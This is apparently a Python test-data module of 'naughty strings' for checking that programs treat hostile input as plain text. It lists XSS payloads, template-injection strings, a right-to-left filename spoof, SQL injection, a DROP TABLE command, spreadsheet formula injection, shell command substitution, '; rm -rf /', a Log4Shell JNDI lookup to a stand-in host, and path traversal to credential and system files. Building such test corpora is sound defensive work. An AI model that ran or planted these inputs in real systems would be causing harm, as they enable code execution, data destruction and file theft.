"""Strings that have broken programs: markup, scripts, names of objects, odd letters, odd paths. Each stays words."""

RUN = "globalThis.owned=1"

MARKUP = (
    f"<script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title></style></script><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>a</a>',
    f"javascript:{RUN}",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<form><button formaction=javascript:{RUN}>b</button></form>",
    f'" onmouseover="{RUN}" style="position:fixed;inset:0',
    f"' autofocus onfocus='{RUN}",
    f"<image-grid onclick={RUN}></image-grid>",
    f"<details open ontoggle={RUN}>",
    "<style>*{background:url(//example.invalid/x)}</style>",
    "<link rel=stylesheet href=//example.invalid/x>",
    "<base href=//example.invalid/>",
    '<meta http-equiv=refresh content="0;url=//example.invalid/">',
    "<object data=//example.invalid/x></object>",
    "&lt;script&gt;&#x3c;b&#x3e;&amp;amp;",
    "\\u003cscript\\u003e%3Cscript%3E",
    f'{{{{constructor.constructor("{RUN}")()}}}}',
    f"${{{RUN}}}",
    "]]>{}<![CDATA[",
)

NAMES = (
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-0",
    "1e999",
)

LETTERS = (
    "\u202egnp.exe\u202c",
    "e\u0301 \u00e9 \u1e9b\u0323",
    "\u0130\u0131\u017f\u00df",
    "a" + "\u0300\u0316" * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \U0001f3f3\ufe0f",
    "\u200b\u200d\u2060\ufeffunseen",
    "one\u2028two\u2029three\u0085four",
    "\u0645\u0631\u062d\u0628\u0627 (\u05e9\u05dc\u05d5\u05dd)",
    "\u7530\u4e2d\u3055\u3093\uff1c\uff1e",
    "\U0001d573\U0001d58a \ufdfd \U00020bb7",
    "tab\there",
)

PROGRAMS = (
    "' OR 1=1 --",
    '"; DROP TABLE images; --',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "$(touch owned) `touch owned`",
    "; rm -rf / #",
    "-rf",
    "%s%n%00%d",
    "${jndi:ldap://example.invalid/x}",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "C:\\AUX",
    "(?=(.*)*)[",
    "\\",
    "'\"`",
    "w " * 400 + "end",
)

NAUGHTY = (*MARKUP, *NAMES, *LETTERS, *PROGRAMS)
